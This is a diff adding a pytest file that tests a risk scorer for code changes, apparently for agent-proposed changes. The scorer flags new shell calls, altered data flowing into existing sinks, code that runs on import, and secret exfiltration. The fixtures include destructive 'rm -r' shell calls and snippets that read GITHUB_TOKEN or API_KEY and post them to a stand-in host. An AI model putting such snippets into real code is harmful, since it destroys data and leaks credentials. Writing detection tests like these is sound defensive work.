@@ -1,0 +1,169 @@
+"""Only what a change gains counts, and how new it is decides how much."""
+
+from __future__ import annotations
+
+import pytest
+
+from mai.proposal import FileChange, Level
+from tests.risk.conftest import Score, rules
+
+RUN = "import subprocess\n\n\ndef go(command):\n    return subprocess.run(command)\n"
+
+
+def test_what_stood_before_costs_nothing(score: Score) -> None:
+    report = score({"a.py": RUN}, {"a.py": "# A comment.\n" + RUN + "\n\nx = 1\n"})
+    assert report.level is Level.LOW
+    assert report.findings == ()
+    assert report.score == 0
+
+
+def test_new_to_the_project_is_more_than_new_to_the_file_is_more_than_once_more(
+    score: Score,
+) -> None:
+    plain = "x = 1\n"
+    adds = plain + "import pathlib\npathlib.Path('x').write_text('y')\n"
+    calls = RUN + "\n\ndef more():\n    return subprocess.check_output(['ls'])\n"
+    new_to_project = score({"a.py": plain}, {"a.py": RUN})
+    new_to_file = score({"a.py": plain, "b.py": RUN}, {"a.py": RUN + "y = 1\n", "b.py": RUN})
+    once_more = score({"a.py": RUN}, {"a.py": calls})
+    assert new_to_project.level is Level.HIGH
+    assert new_to_file.level is Level.MEDIUM
+    assert once_more.level is Level.MEDIUM
+    assert new_to_project.score >= new_to_file.score >= once_more.score
+    assert score({"a.py": plain}, {"a.py": adds}).level is Level.MEDIUM
+    again = adds + "pathlib.Path('z').touch()\n"
+    assert score({"a.py": adds}, {"a.py": again}).level is Level.LOW
+
+
+def test_a_capability_split_over_two_places_is_seen(score: Score) -> None:
+    base = "import os\n\nhandle = None\n\n\ndef work(x):\n    return handle.system(x)\n"
+    head = base.replace("handle = None", "handle = os")
+    assert (
+        score({"a.py": base.replace("handle.system", "print")}, {"a.py": head}).level
+        >= Level.MEDIUM
+    )
+    assert score({"a.py": base}, {"a.py": head}).level >= Level.MEDIUM
+
+
+def test_a_function_moved_to_another_file_is_no_gain(score: Score) -> None:
+    base = {"a.py": RUN, "b.py": "import subprocess\n"}
+    head = {"a.py": "import subprocess\n", "b.py": RUN}
+    assert score(base, head).level is Level.LOW
+
+
+def test_a_function_renamed_with_its_locals_is_no_gain(score: Score) -> None:
+    head = RUN.replace("go(command)", "start(words)").replace("run(command)", "run(words)")
+    assert score({"a.py": RUN}, {"a.py": head}).level is Level.LOW
+
+
+def test_a_file_renamed_is_no_gain(score: Score) -> None:
+    files = [FileChange("b.py", "renamed", old_path="a.py", old_mode="100644", new_mode="100644")]
+    assert score({"a.py": RUN}, {"b.py": RUN}, files=files).level is Level.LOW
+
+
+def test_a_moved_body_that_means_something_else_is_a_gain(score: Score) -> None:
+    function = "\n\ndef go(command):\n    return show(command)\n"
+    base = {"a.py": "show = print\n" + function, "b.py": "from os import system as show\n"}
+    head = {"a.py": "show = print\n", "b.py": "from os import system as show\n" + function}
+    assert score(base, head).level >= Level.MEDIUM
+
+
+@pytest.mark.parametrize(
+    ("base", "head"),
+    [
+        ("x = 'a'\nexec(x)\n", "x = input()\nexec(x)\n"),
+        (
+            "import subprocess\n\n\ndef f():\n    c = ['ls']\n    subprocess.run(c)\n",
+            "import subprocess\n\n\ndef f():\n    c = ['rm', '-r', 'x']\n    subprocess.run(c)\n",
+        ),
+        (
+            "import subprocess\n\n\ndef f(c):\n    subprocess.run(c)\n\n\nf('ls')\n",
+            "import subprocess\n\n\ndef f(c):\n    subprocess.run(c)\n\n\nf('rm')\n",
+        ),
+        (
+            "import os\nA = 'l'\nB = A + 's'\nC = B\n\n\ndef f():\n    os.system(C)\n",
+            "import os\nA = 'p'\nB = A + 's'\nC = B\n\n\ndef f():\n    os.system(C)\n",
+        ),
+        (
+            "import os\n\n\ndef f(c=[]):\n    c.append('ls')\n    os.execv('x', c)\n",
+            "import os\n\n\ndef f(c=[]):\n    c.append('rm')\n    os.execv('x', c)\n",
+        ),
+        (
+            "import os\n\n\nclass A:\n    def __init__(self):\n        self.c = 'ls'\n\n"
+            "    def f(self):\n        os.system(self.c)\n",
+            "import os\n\n\nclass A:\n    def __init__(self):\n        self.c = 'rm'\n\n"
+            "    def f(self):\n        os.system(self.c)\n",
+        ),
+        (
+            "import os\n\n\ndef name():\n    return 'ls'\n\n\nos.system(name())\n",
+            "import os\n\n\ndef name():\n    return 'rm'\n\n\nos.system(name())\n",
+        ),
+    ],
+)
+def test_other_data_for_a_sink_that_stood_is_a_gain(score: Score, base: str, head: str) -> None:
+    report = score({"a.py": base}, {"a.py": head})
+    assert report.level >= Level.MEDIUM
+    assert "flow.changed" in rules(report)
+
+
+def test_data_far_behind_a_long_chain_of_names_is_still_followed(score: Score) -> None:
+    chain = "".join(f"v{n} = v{n - 1}\n" for n in range(1, 60))
+    source = "import os\nv0 = '{}'\n" + chain + "os.system(v59)\n"
+    report = score({"a.py": source.format("ls")}, {"a.py": source.format("rm")})
+    assert report.level >= Level.MEDIUM
+
+
+def test_a_call_into_a_helper_of_the_project_reaches_what_the_helper_reaches(
+    score: Score,
+) -> None:
+    helper = "import subprocess\n\n\ndef shell(command):\n    subprocess.run(command, shell=True)\n"
+    base = {"pkg/__init__.py": "", "pkg/util.py": helper, "pkg/a.py": "x = 1\n"}
+    for call in (
+        "from pkg.util import shell\nshell('rm -r x')\n",
+        "from .util import shell as s\ns('rm -r x')\n",
+        "from pkg import util\nutil.shell('rm -r x')\n",
+        "import pkg.util\npkg.util.shell('rm -r x')\n",
+    ):
+        report = score(base, {**base, "pkg/a.py": call})
+        assert report.level is Level.MEDIUM, call
+        assert rules(report) == {"flow.changed"}
+
+
+def test_running_on_import_what_took_a_call_before_is_a_gain(score: Score) -> None:
+    base = "import os\n\n\ndef main():\n    os.system('ls')\n"
+    guarded = base + "\n\nif __name__ == '__main__':\n    main()\n"
+    report = score({"a.py": guarded}, {"a.py": base + "\n\nmain()\n"})
+    assert report.level >= Level.MEDIUM
+    assert "importing the file" in report.findings[0].message
+    assert score({"a.py": base + "\n\nmain()\n"}, {"a.py": guarded}).level is Level.LOW
+
+
+def test_a_variable_read_before_does_not_cover_another(score: Score) -> None:
+    base = "import os\nx = os.environ['HOME']\n"
+    head = base + "y = os.environ['GITHUB_TOKEN']\n"
+    report = score({"a.py": base}, {"a.py": head})
+    assert rules(report, Level.MEDIUM) == {"env.secret"}
+
+
+def test_combinations_count_across_the_files_of_one_change(score: Score) -> None:
+    base = {"a.py": "x = 1\n", "b.py": "y = 1\n", "c.py": "import requests\nrequests.get('x')\n"}
+    head = {
+        "a.py": "import os\nx = dict(os.environ)\n",
+        "b.py": "import requests\n\n\ndef send(x):\n    requests.post('http://x', data=x)\n",
+        "c.py": base["c.py"],
+    }
+    report = score(base, head)
+    assert report.level is Level.HIGH
+    assert "combination.leak" in rules(report)
+
+
+def test_a_combination_with_what_stood_before_counts_once(score: Score) -> None:
+    base = "import os\nkey = os.environ['API_KEY']\n"
+    leak = base + "import requests\nrequests.post('http://x', data=key)\n"
+    assert score({"a.py": base}, {"a.py": leak}).level is Level.HIGH
+    more = leak + "x = 1\n"
+    assert score({"a.py": leak}, {"a.py": more}).level is Level.LOW
+
+
+def test_a_deleted_file_gains_nothing(score: Score) -> None:
+    assert score({"a.py": RUN, "b.py": ""}, {"b.py": ""}).level is Level.LOW
